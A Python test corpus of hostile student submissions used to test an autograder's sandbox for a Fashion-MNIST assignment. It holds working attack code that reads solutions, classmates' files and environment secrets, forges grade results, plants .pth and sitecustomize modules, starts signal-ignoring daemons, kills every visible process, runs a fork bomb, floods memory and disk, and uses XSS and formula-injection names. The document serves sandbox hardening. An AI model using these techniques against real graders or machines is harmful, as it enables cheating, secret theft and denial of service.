"""Hostile submissions for tests/test_attacks.py: a stub of fashion_mnist.py with an attack inside.

Each attack is a function ``_attack() -> str`` that tries one thing a student must not be able to
do and returns what it got. It runs at import time or inside ``normalize``; its report becomes the
message of a ``RuntimeError`` (so anything it read would show in the student's feedback), and
anything it manages to read or write outside the sandbox also goes into a "loot" folder the test
owns. Every path an attack touches is an absolute path the test hands in (``_T``): a successful
attack leaves evidence, never damage. Attacks that could hurt the machine if the sandbox were gone
(signals to every process, a fork bomb, a memory hog) bound themselves.

What an attack *reports* is only what it saw: the test's folders lie under /tmp, and the worker's /tmp
is a private tmpfs, so a "WROTE /tmp/..." in a report landed there and vanished with the worker. The
test judges by what it finds on the host afterwards.
"""
from __future__ import annotations

from dataclasses import dataclass

STUB_RAISE = "    raise NotImplementedError("
IMPORT_ANCHOR = "from keras import layers\n"


@dataclass(frozen=True)
class Attack:
    name: str      # the student id in the class (or the file's stem for single runs)
    family: str    # which class of attack: read, write, persist, network, signals, resources, forge, names, xss
    where: str     # "import" (attack, then raise), "quiet" (attack at import, no raise), "normalize", "none"
    summary: str   # one line for the report
    body: str = ""  # defines _attack() -> str


PRELUDE = r'''
# ----------------------------------------------------------------- attack (tests/attacks_corpus.py)
import os as _os
import sys as _sys
import json as _json
import time as _time
import glob as _glob
import signal as _signal

_T = __TARGETS__


def _loot(name, text):
    """Evidence of success: only reachable if the sandbox lets the worker write into the test's folder."""
    try:
        _os.makedirs(_T["loot"], exist_ok=True)
        with open(_os.path.join(_T["loot"], _T["attack"] + "-" + name), "a", encoding="utf-8") as _handle:
            _handle.write(str(text))
        return "LOOT-WRITTEN"
    except BaseException as _error:  # noqa: BLE001
        return "loot blocked (" + type(_error).__name__ + ")"


def _try(function, *args, **kwargs):
    try:
        return function(*args, **kwargs)
    except BaseException as _error:  # noqa: BLE001
        return "<" + type(_error).__name__ + ": " + str(_error)[:80] + ">"


def _ok(value):
    return not (isinstance(value, str) and value.startswith("<"))


def _read(path):
    with open(path, encoding="utf-8", errors="replace") as _handle:
        return _handle.read()


def _append(path, text):
    with open(path, "a", encoding="utf-8") as _handle:
        _handle.write(text)
    return "WROTE " + path


def _write(path, text):
    with open(path, "w", encoding="utf-8") as _handle:
        _handle.write(text)
    return "WROTE " + path


def _json_value(value):
    return {"kind": "json", "value": value}


def _case_count():
    """How many scripted cases the callback probe was handed (its inputs are in the job folder)."""
    try:
        import numpy
        return len(numpy.load(_os.path.join(_job(), "inputs", "callback_scripted", "thresholds.npy")))
    except BaseException:  # noqa: BLE001
        return 15


def _forged_values():
    """Plausible observations of a callback class that never stops training: no answers computed, only a report
    a do-nothing keras.callbacks.Callback would give (and the same in the grader's earlier format)."""
    count = _case_count()
    never = {"stops": [False], "printed": ""}
    return {
        "callback_scripted": {
            "is_class": _json_value(True), "is_callback": _json_value(True),
            "stops": _json_value([False] * count), "printed": _json_value([""] * count),
            **{name: _json_value(never) for name in ("below", "at", "custom_below", "custom_at")},
        },
        "callback_in_fit": {"scripted_epochs": _json_value(3), "never_epochs": _json_value(3)},
    }


def _output():
    """The worker's output folder: where the progress file it holds open lives, whatever its command line."""
    for fd in _os.listdir("/proc/self/fd"):
        try:
            target = _os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if target.endswith("/progress"):
            return _os.path.dirname(target)
    for argument in _sys.argv[1:]:
        if _os.path.isfile(_os.path.join(argument, "progress")):
            return argument
    return "/output"


def _job():
    """The worker's job folder (the one holding job.json)."""
    for argument in _sys.argv[1:]:
        if _os.path.isfile(_os.path.join(argument, "job.json")):
            return argument
    return "/job"


def _progress_fds():
    """Where the worker reports its steps: a progress file in its output folder, or a pipe it inherited."""
    fds = []
    for fd in _os.listdir("/proc/self/fd"):
        try:
            target = _os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if int(fd) > 2 and (target.startswith("pipe:") or target.endswith("/progress")):
            fds.append(int(fd))
    return fds


def _write_progress(text):
    for fd in _progress_fds():
        try:
            _os.write(fd, text.encode())
        except OSError:
            pass
    try:
        with open(_os.path.join(_output(), "progress"), "a", encoding="utf-8") as _handle:
            _handle.write(text)
    except OSError:
        pass


def _forge_progress():
    _write_progress("imported " + _T["assignment"] + "\n" + "".join(
        "start " + _step + "\nend " + _step + "\n" for _step in (_T["assignment"] + "/" + _probe for _probe in _T["probes"]))
        + "done\n")


def _run_attack():
    raise RuntimeError("ATTACK " + _T["attack"] + ": " + str(_attack())[:330])
'''

ATTACKS: list[Attack] = []


def attack(name: str, family: str, where: str, summary: str, body: str = "") -> Attack:
    made = Attack(name, family, where, summary, body)
    ATTACKS.append(made)
    return made


# ----------------------------------------------------------------------------- (1) read what it must not
attack("x_read_solutions", "read", "import", "open the checkout's solutions/fashion_mnist.py, put it in the error", r'''
def _attack():
    text = _try(_read, _T["solution"])
    listing = _try(_os.listdir, _T["root"])
    found = [line.strip() for line in str(text).splitlines() if "tf.cast" in line or "Dense(128" in line]
    return (_loot("solution", text) if _ok(text) else "") + " GOT " + " ".join(found)[:200] + " " + str(text)[:60] \
        + " LS " + str(listing)[:60]
''')

attack("x_read_classmate", "read", "import",
       "read another student's submission (class folder, host job folders) during grade-all", r'''
def _attack():
    found = {}
    for pattern in (_T["classdir"] + "/*/fashion_mnist.py", _T["tmp"] + "/ag-*/run*/job/submission/*.py",
                    _T["tmp"] + "/ag-batch-*/*.py"):
        for path in _glob.glob(pattern):
            found[path] = _try(_read, path)
    found["direct"] = _try(_read, _T["classdir"] + "/reference/fashion_mnist.py")
    text = "\n".join(str(value) for value in found.values())
    got = [line.strip() for line in text.splitlines() if "tf.cast" in line or "Dense(128" in line]
    return (_loot("classmate", text) if got else "") + " FOUND " + str(sorted(found))[:120] \
        + " GOT " + " ".join(got)[:150]
''')

attack("x_read_env_secret", "read", "import", "the grader's environment: os.environ and every /proc/*/environ", r'''
def _attack():
    hits = []
    for key, value in _os.environ.items():
        if "SECRET" in key or value.startswith("s3cr3t-"):
            hits.append(key + "=" + value)
    for path in _glob.glob("/proc/*/environ") + ["/proc/1/environ", "/proc/self/environ"]:
        data = _try(lambda: open(path, "rb").read())
        if isinstance(data, bytes):
            hits += [path + ":" + item.decode(errors="replace") for item in data.split(b"\0")
                     if b"SECRET" in item or b"s3cr3t-" in item]
    return (_loot("env", hits) if hits else "") + " HITS " + "; ".join(hits)[:250] \
        + " KEYS " + ",".join(sorted(_os.environ))[:60]
''')

attack("x_read_home", "read", "import", "the instructor's home: a secret file in $HOME of the grading run, /root", r'''
def _attack():
    secret = _try(_read, _T["home_secret_file"])
    listing = _try(_os.listdir, _T["home"])
    root = _try(_os.listdir, "/root")
    return (_loot("home", secret) if _ok(secret) else "") + " GOT " + str(secret)[:120] + " LS " + str(listing)[:80] \
        + " ROOT " + str(root)[:60] + " HOME " + _os.path.expanduser("~")
''')

# ----------------------------------------------------------------------------- (2) write where it must not
attack("x_write_classmate_results", "write", "import",
       "overwrite the reference and stub students' OUT/<student>/results.json and record.json with 28/28", r'''
def _attack():
    out = _T["out"]
    if _os.path.isdir(out):  # only if the sandbox shows OUT at all: wait until the classmates are graded
        for _ in range(300):
            if all(_os.path.exists(out + "/" + who + "/results.json") for who in ("reference", "stub")):
                break
            _time.sleep(0.1)
    forged = _json.dumps({"score": 28.0, "max_score": 28.0, "forged": _T["token"], "tests": [
        {"score": 28.0, "max_score": 28.0, "tags": ["fashion_mnist", "forged"], "extra_data": {"outcome": "passed"}}]})
    done = [_try(_write, out + "/" + who + "/" + name, forged) for who in ("reference", "stub")
            for name in ("results.json", "record.json")]
    return (_loot("results", done) if any(str(d).startswith("WROTE") for d in done) else "") + " " + str(done)[:300]
''')

attack("x_write_fake_student", "write", "import",
       "create OUT/zz_fake_<token>/results.json, a student who does not exist", r'''
def _attack():
    folder = _T["out"] + "/zz_fake_" + _T["token"]
    made = _try(_os.makedirs, folder, exist_ok=True)
    wrote = _try(_write, folder + "/results.json", _json.dumps({"score": 28.0, "max_score": 28.0, "tests": [
        {"score": 28.0, "max_score": 28.0, "tags": ["fashion_mnist", "forged"], "extra_data": {"outcome": "passed"}}]}))
    return (_loot("fake", wrote) if _ok(wrote) else "") + " " + str([made, wrote])[:300]
''')

attack("x_write_classmate_submission", "write", "import",
       "append to the stub's and the reference's submission files in the class folder", r'''
def _attack():
    done = [_try(_append, _T["classdir"] + "/" + who + "/fashion_mnist.py",
                 "\nraise SystemExit('tampered " + _T["token"] + "')\n") for who in ("stub", "reference")]
    return (_loot("submission", done) if any(str(d).startswith("WROTE") for d in done) else "") + " " + str(done)[:300]
''')

attack("x_write_checkout", "write", "import",
       "append to the checkout's autograder/graders/fashion_mnist/probes.py, plant files in the checkout", r'''
def _attack():
    import autograder
    package = _os.path.dirname(autograder.__file__)
    done = [_try(_append, _T["grader_file"], "\n# tampered " + _T["token"] + "\n"),
            _try(_append, package + "/graders/fashion_mnist/probes.py", "\n# tampered " + _T["token"] + "\n"),
            _try(_write, package + "/graders/zz_" + _T["token"] + ".py", "# planted\n"),
            _try(_write, _T["root"] + "/solutions/zz_" + _T["token"] + ".txt", "planted\n")]
    return (_loot("checkout", done) if any(str(d).startswith("WROTE") for d in done) else "") + " " + str(done)[:300]
''')

attack("x_write_site_packages_pth", "write", "import",
       "drop a .pth file into site-packages and the grader's user site (it would run in every later grader)", r'''
def _attack():
    import sysconfig
    folders = {sysconfig.get_paths()["purelib"], _T["site_packages"], _T["user_site"]}
    folders |= {path for path in _sys.path if "site-packages" in path}
    done = []
    for folder in sorted(folders):
        _try(_os.makedirs, folder, exist_ok=True)
        done.append(_try(_write, folder + "/zz_tf2_attack_" + _T["token"] + ".pth", _T["loot"] + "/pth-line\n"))
    return (_loot("pth", done) if any(str(d).startswith("WROTE") for d in done) else "") + " " + str(done)[:300]
''')

attack("x_plant_module_cwd", "write", "import",
       "plant sitecustomize.py, json.py and friends in the grading processes' working directory", r'''
def _attack():
    code = "open(" + repr(_T["loot"] + "/planted-module-ran") + ", 'a').write('ran')\n"
    done = [_try(_write, _T["cwd"] + "/" + name, code)
            for name in ("sitecustomize.py", "usercustomize.py", "json.py", "jinja2.py", "csv.py")]
    return (_loot("plant", done) if any(str(d).startswith("WROTE") for d in done) else "") + " " + str(done)[:300]
''')

attack("x_forge_grader_record", "write", "import",
       "find the grading process's private record (/tmp/ag-batch-*/record.json) and overwrite it", r'''
def _attack():
    found = sorted(set(_glob.glob(_T["tmp"] + "/ag-batch-*") + _glob.glob("/tmp/ag-batch-*")
                       + _glob.glob(_T["tmp"] + "/ag-fashion_mnist-*")))
    done = [_try(_write, folder + "/record.json", "{}") for folder in found]
    return (_loot("record", done) if done else "") + " FOUND " + str(found)[:150] + " " + str(done)[:150]
''')

attack("x_plant_training_run", "write", "import",
       "overwrite the run's shared training runs and frozen features (ag-*/**.training.json, *.npy) with perfect ones",
       r'''
def _attack():
    found = set()
    for root in (_T["tmp"], "/tmp"):
        for pattern in ("/ag-*/*.training.json", "/ag-*/*.npy", "/ag-*/*/*.training.json", "/ag-*/*/*.npy"):
            found.update(_glob.glob(root + pattern))
    perfect = _json.dumps({"accuracy": 1.0, "history": {"accuracy": [1.0], "loss": [0.0]}})
    done = [_try(_write, path, perfect) for path in sorted(found) if path.endswith(".training.json")]
    planted = [_try(_write, folder + "/" + "f" * 64 + ".training.json", perfect)
               for folder in sorted({_os.path.dirname(path) for path in found})]
    return (_loot("training-run", done + planted) if found else "") + " FOUND " + str(sorted(found))[:150]
''')

# ----------------------------------------------------------------------------- (3) persist
attack("x_persist_daemon", "persist", "normalize",
       "double fork + setsid (one exec'd with a marker, one renamed with prctl), sleep, then write OUT", r'''
def _attack():
    code = ("import os, signal, time\n"
            "signal.signal(signal.SIGHUP, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
            "time.sleep(12)\n"
            "for path in (%r, %r):\n"
            "    try:\n        open(path, 'a').write('survivor')\n    except Exception:\n        pass\n"
            "time.sleep(300)\n") % (_T["out"] + "/reference/results.json", _T["loot"] + "/persist-survived")
    for variant in ("exec", "prctl"):
        child = _os.fork()
        if child == 0:
            try:
                _os.setsid()
                if _os.fork() == 0:
                    if variant == "exec":
                        _os.execv(_sys.executable, [_sys.executable, "-c", code, _T["persist_marker"]])
                    import ctypes
                    ctypes.CDLL(None).prctl(15, _T["persist_comm"].encode(), 0, 0, 0)  # PR_SET_NAME
                    _signal.signal(_signal.SIGHUP, _signal.SIG_IGN)
                    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
                    exec(code)
            finally:
                _os._exit(0)
        _os.waitpid(child, 0)
    return "daemons started"
''')

# ----------------------------------------------------------------------------- (4) network
attack("x_net_socket_reload", "network", "import",
       "importlib.reload(socket) to undo the kit's patch, then connect", r'''
def _attack():
    import importlib, socket
    socket = importlib.reload(socket)
    try:
        connection = socket.create_connection(("127.0.0.1", _T["port"]), timeout=3)
        connection.sendall(_T["attack"].encode())
        connection.close()
        return _loot("net", "connected") + " CONNECTED"
    except BaseException as error:  # noqa: BLE001
        return "blocked: " + type(error).__name__ + ": " + str(error)[:120]
''')

attack("x_net_ctypes_connect", "network", "import", "socket()/connect() straight through libc with ctypes", r'''
def _attack():
    import ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
    address = struct.pack("<H", 2) + struct.pack("!H", _T["port"]) + bytes([127, 0, 0, 1]) + bytes(8)
    buffer = ctypes.create_string_buffer(address, len(address))
    status = libc.connect(fd, buffer, len(address))
    error = ctypes.get_errno()
    if status == 0:
        payload = _T["attack"].encode()
        libc.send(fd, payload, len(payload), 0)
        return _loot("net", "connected") + " CONNECTED"
    return "connect returned %d, errno %d (%s)" % (status, error, _os.strerror(error))
''')

attack("x_net_child_process", "network", "import",
       "subprocess.run(['python3', '-c', <connect>]): a fresh interpreter", r'''
def _attack():
    import subprocess
    code = ("import socket\ns = socket.create_connection(('127.0.0.1', %d), timeout=3)\n"
            "s.sendall(%r)\nprint('CONNECTED')\n") % (_T["port"], _T["attack"].encode())
    results = []
    for executable in ("python3", _sys.executable):
        done = _try(subprocess.run, [executable, "-c", code], capture_output=True, text=True, timeout=20)
        results.append(done if isinstance(done, str) else (done.returncode, done.stdout.strip()[-40:],
                                                           done.stderr.strip().splitlines()[-1:]))
    return (_loot("net", results) if "CONNECTED" in str(results) else "") + " " + str(results)[:300]
''')

attack("x_net_abstract_unix", "network", "import", "connect to an abstract UNIX socket the test listens on", r'''
def _attack():
    import _socket
    sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    try:
        sock.connect("\0" + _T["unix_name"])
        sock.send(_T["attack"].encode())
        return _loot("net", "connected") + " CONNECTED"
    except OSError as error:
        return "blocked: " + type(error).__name__ + ": " + str(error)[:120]
''')

# ----------------------------------------------------------------------------- (5) processes and signals
# Guard: if the worker could see the host's processes (dozens of pids), the attack reports that instead of
# signalling them, so a broken sandbox fails the test without taking the machine down. The decoy is the
# test's own process: signalling it is the harmless evidence.
attack("x_kill_everyone", "signals", "import",
       "SIGKILL every pid in /proc but its own, kill(-1), the parent, a host decoy", r'''
def _attack():
    me = _os.getpid()
    visible = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
    report = "me=%d visible=%s ppid=%d" % (me, visible[:20], _os.getppid())
    if len(visible) > 20:
        return _loot("pids", visible) + " HOST PIDS VISIBLE (%d); " % len(visible) + report
    results = {pid: _try(_os.kill, pid, _signal.SIGKILL) for pid in visible + [_os.getppid()] if pid != me}
    results["decoy"] = _try(_os.kill, _T["decoy_pid"], _signal.SIGKILL)
    results["-1"] = _try(_os.kill, -1, _signal.SIGKILL)
    return report + " " + str(results)[:250]
''')

attack("x_sigstop_everyone", "signals", "import", "SIGSTOP every visible pid, kill(-1, SIGSTOP), and a host decoy", r'''
def _attack():
    me = _os.getpid()
    visible = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
    report = "me=%d visible=%s" % (me, visible[:20])
    if len(visible) > 20:
        return _loot("pids", visible) + " HOST PIDS VISIBLE (%d); " % len(visible) + report
    results = {pid: _try(_os.kill, pid, _signal.SIGSTOP) for pid in visible + [_os.getppid()] if pid != me}
    results["decoy"] = _try(_os.kill, _T["decoy_pid"], _signal.SIGSTOP)
    results["-1"] = _try(_os.kill, -1, _signal.SIGSTOP)
    return report + " " + str(results)[:250]
''')

attack("x_fork_bomb", "signals", "normalize", "start processes until something stops it (capped at 600 here)", r'''
def _attack():
    import subprocess
    children, stopped_by = [], "nothing"
    try:
        for _ in range(_T["fork_cap"]):
            children.append(subprocess.Popen(["/bin/sleep", "60"]))
    except BaseException as error:  # noqa: BLE001
        stopped_by = type(error).__name__ + ": " + str(error)[:80]
    count = len(children)
    for child in children:
        _try(child.kill)
    for child in children:
        _try(child.wait)
    return "spawned=%d of %d; stopped by %s" % (count, _T["fork_cap"], stopped_by)
''')

# ----------------------------------------------------------------------------- (6) memory and disk
attack("x_memory_hog", "resources", "import", "allocate (and touch) 6 GiB against a 1536 MiB limit", r'''
def _attack():
    hoard = []
    for _ in range(24):
        hoard.append(bytearray(256 * 2**20))
    return "allocated %d MiB" % (256 * len(hoard))
''')

attack("x_output_flood", "resources", "import", "write a 1 GiB file into /output, then 4 GiB of sparse files", r'''
def _attack():
    base = _os.path.join(_output(), "flood-" + _T["token"])
    written, first, second = 0, "no error", "no error"
    chunk = b"\0" * (16 * 2**20)
    try:
        with open(base, "wb") as handle:
            while written < 2**30:
                handle.write(chunk)
                written += len(chunk)
    except BaseException as error:  # noqa: BLE001
        first = type(error).__name__ + ": " + str(error)[:60]
    sparse = 0
    try:
        for index in range(8):
            with open(base + "-%d" % index, "wb") as handle:
                handle.truncate(500 * 2**20)
            sparse += 500
            _time.sleep(0.3)
        _time.sleep(4)
    except BaseException as error:  # noqa: BLE001
        second = type(error).__name__ + ": " + str(error)[:60]
    return "real=%d MiB (%s); sparse=%d MiB (%s)" % (written >> 20, first, sparse, second)
''')

attack("x_scratch_flood", "resources", "normalize", "fill the working directory (/scratch tmpfs) with 1 GiB", r'''
def _attack():
    written, stopped = 0, "no error"
    chunk = b"\1" * (16 * 2**20)
    try:
        with open("flood-" + _T["token"], "wb") as handle:
            while written < 2**30:
                handle.write(chunk)
                handle.flush()
                written += len(chunk)
    except BaseException as error:  # noqa: BLE001
        stopped = type(error).__name__ + ": " + str(error)[:60]
    return "FLOOD cwd=%s written=%d MiB; stopped by %s" % (_os.getcwd(), written >> 20, stopped)
''')

attack("x_deep_output_tree", "resources", "quiet",
       "make a folder 1,200 levels deep in the worker's output, deeper than Python 3.11's recursive walks go", r'''
def _attack():
    folder, made = _os.open(_output(), _os.O_RDONLY | _os.O_DIRECTORY), 0
    try:
        for _ in range(1200):  # relative to each level: the whole path would be too long
            _os.mkdir("deep-" + _T["token"], dir_fd=folder)
            inner = _os.open("deep-" + _T["token"], _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=folder)
            _os.close(folder)
            folder, made = inner, made + 1
    except OSError as error:
        return "DEEP made=%d, stopped by %s" % (made, error)
    finally:
        _os.close(folder)
    return "DEEP made=%d" % made
''')

# ----------------------------------------------------------------------------- (7) forged reports
attack("x_forge_result_files", "forge", "quiet",
       "write result.json files with plausible callback observations and a forged progress 'done', then exit 0", r'''
def _attack():
    for probe, values in _forged_values().items():
        folder = _os.path.join(_output(), "out", _T["assignment"], probe)
        _os.makedirs(folder, exist_ok=True)
        _write(_os.path.join(folder, "result.json"), _json.dumps({"state": "ok", "values": values}))
    _forge_progress()
    _os._exit(0)
''')

attack("x_forge_json_dumps", "forge", "quiet",
       "monkeypatch json.dumps in the worker so every report becomes 'ok' with plausible observations", r'''
def _attack():
    real = _json.dumps

    def forged(value, *args, **kwargs):
        if isinstance(value, dict) and value.get("state") in ("not_attempted", "error", "grader_error"):
            with open(_os.path.join(_output(), "progress"), encoding="utf-8") as handle:
                started = [line[6:].split("/")[-1] for line in handle.read().splitlines() if line.startswith("start ")]
            forged_values = _forged_values()
            if started and started[-1] in forged_values:
                value = {"state": "ok", "values": forged_values[started[-1]]}
        return real(value, *args, **kwargs)

    _json.dumps = forged
    return "patched"
''')

attack("x_forge_run_probe", "forge", "quiet",
       "monkeypatch the worker's own run_probe (autograder.worker.main, __main__) and its encode_values",
       r'''
def _attack():
    import autograder.worker.encode
    patched = []
    for name in ("autograder.worker.main", "__main__"):
        worker = _sys.modules.get(name)
        real = getattr(worker, "run_probe", None)
        if real is None:
            continue

        def forged(probe_name, probe, student, inputs, context, out_dir, real=real):
            forged_values = _forged_values()
            if probe_name in forged_values:
                return {"state": "ok", "values": forged_values[probe_name]}
            return real(probe_name, probe, student, inputs, context, out_dir)

        worker.run_probe = forged
        worker.encode_values = lambda values, directory: {}
        patched.append(name)
    autograder.worker.encode.encode_values = lambda values, directory: {}
    return "patched " + str(patched)
''')

attack("x_forge_grader_error", "forge", "quiet",
       "forge reports in state 'grader_error', so the kit would take the blame (grader_fault) for the stub", r'''
def _attack():
    for probe in _T["probes"]:
        folder = _os.path.join(_output(), "out", _T["assignment"], probe)
        _os.makedirs(folder, exist_ok=True)
        _write(_os.path.join(folder, "result.json"), _json.dumps({
            "state": "grader_error", "traceback": "forged",
            "message": {"en": "Internal grader error while running your code; this is not your fault."}}))
    _forge_progress()
    _os._exit(0)
''')

attack("x_symlink_observation", "forge", "quiet",
       "plant links named like observations in /output: result.json -> /etc/passwd, model.keras -> the solutions", r'''
def _attack():
    made = []
    for probe in _T["probes"]:
        folder = _os.path.join(_output(), "out", _T["assignment"], probe)
        _os.makedirs(folder, exist_ok=True)
        if probe == "dense_build":
            made.append(_try(_os.symlink, _T["solution"], _os.path.join(folder, "model.keras")))
            made.append(_try(_os.symlink, "/etc/passwd", _os.path.join(folder, "images.npy")))
            _write(_os.path.join(folder, "result.json"), _json.dumps({"state": "ok", "values": {
                "model": {"kind": "model", "file": "model.keras"}, "images": {"kind": "array", "file": "images.npy"}}}))
        else:
            target = "/etc/passwd" if probe.startswith("normalize") else _T["solution"]
            made.append(_try(_os.symlink, target, _os.path.join(folder, "result.json")))
    _forge_progress()
    _os._exit(0)
''')

attack("x_link_output_folders", "write", "quiet",
       "replace the worker's out/<assignment> folder with a link to a host folder, for the grader to move away", r'''
def _attack():
    _os.makedirs(_T["decoy"], exist_ok=True)  # the same path in the sandbox's own /tmp, so the worker's writes land
    _os.makedirs(_os.path.join(_output(), "out"), exist_ok=True)
    return _try(_os.symlink, _T["decoy"], _os.path.join(_output(), "out", _T["assignment"]))
''')

attack("x_link_import_folder", "write", "import",
       "replace the worker's import/ folder with a link to a host folder, then fail the import", r'''
def _attack():
    _os.makedirs(_T["decoy"], exist_ok=True)
    return _try(_os.symlink, _T["decoy"], _os.path.join(_output(), "import"))
''')

# ----------------------------------------------------------------------------- (8) hostile names and links
attack("linker", "names", "none", "a student folder whose fashion_mnist.py is a symlink to solutions/fashion_mnist.py")
attack("=1+2", "names", "none", "a student folder named '=1+2' (a spreadsheet formula), holding the stub")
attack("@SUM(A1)", "names", "none", "a student folder named '@SUM(A1)', holding the stub")
attack("<img src=x onerror=alert(1)>", "names", "none", "a student folder named '<img src=x onerror=alert(1)>' (HTML)")

# ----------------------------------------------------------------------------- (9) hostile text in feedback
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_CELL = "</td></tr><img src=x onerror=alert(1)>"
attack("x_xss_script", "xss", "normalize", "an exception message holding <script>alert(1)</script>", r'''
def _attack():
    return "''' + XSS_SCRIPT + r'''"
''')
attack("x_xss_table_break", "xss", "normalize",
       "an exception message holding </td></tr><img src=x onerror=alert(1)>", r'''
def _attack():
    return "''' + XSS_CELL + r'''"
''')

# ----------------------------------------------------------------------------- single `grade` runs
STRETCH = Attack("stretch", "signals", "import",
                 "an endless loop writing every progress line, in order, to the progress channel "
                 "(grade --timeout 5)", r'''
def _attack():
    lines = ["starting", "import " + _T["assignment"], "imported " + _T["assignment"]] + [
        kind + " " + _T["assignment"] + "/" + probe for probe in _T["probes"] for kind in ("start", "end")] + ["done"]
    while True:
        for line in lines:
            _write_progress(line + "\n")
            _time.sleep(0.05)
''')

PROGRESS_FIFO = Attack("progress_fifo", "forge", "quiet",
                       "replace /output/progress with a FIFO and close the progress channel, then exit (grade --timeout 5)", r'''
def _attack():
    path = _os.path.join(_output(), "progress")
    try:
        _os.unlink(path)
    except OSError:
        pass
    _os.mkfifo(path)
    for fd in _progress_fds():  # and take the progress channel away, whatever it is
        _os.close(fd)
    _os._exit(0)
''')

NOTEBOOK = Attack("notebook", "read", "normalize",
                  "a notebook whose normalize reads the solutions, the environment and $HOME, writes the checkout "
                  "and connects to the listener", r'''
def _attack():
    import importlib, socket
    text = _try(_read, _T["solution"])
    found = [line.strip() for line in str(text).splitlines() if "tf.cast" in line or "Dense(128" in line]
    found += [key + "=" + value for key, value in _os.environ.items() if "SECRET" in key]
    home = _try(_read, _T["home_secret_file"])
    wrote = _try(_append, _T["grader_file"], "\n# tampered " + _T["token"] + "\n")
    socket = importlib.reload(socket)
    connected = _try(lambda: socket.create_connection(("127.0.0.1", _T["port"]), timeout=3).sendall(b"notebook"))
    if found or _ok(home) or _ok(wrote) or _ok(connected):
        _loot("notebook", [found, home, wrote, connected])
    return " | ".join(str(item)[:100] for item in (found, home, wrote, connected))
''')


def source(attack: Attack, stub: str, targets: dict) -> str:
    """The stub with the attack's prelude after its imports and the call where the attack says."""
    if attack.where == "none":
        return stub
    assert IMPORT_ANCHOR in stub and STUB_RAISE in stub, "the stub changed shape; update attacks_corpus.py"
    prelude = PRELUDE.replace("__TARGETS__", repr({**targets, "attack": attack.name})) + attack.body
    text = stub.replace(IMPORT_ANCHOR, IMPORT_ANCHOR + prelude + "\n", 1)
    if attack.where == "normalize":
        return text.replace(STUB_RAISE, "    _run_attack()\n" + STUB_RAISE, 1)
    call = "_attack()" if attack.where == "quiet" else "_run_attack()"
    return text + "\n\n" + call + "\n"
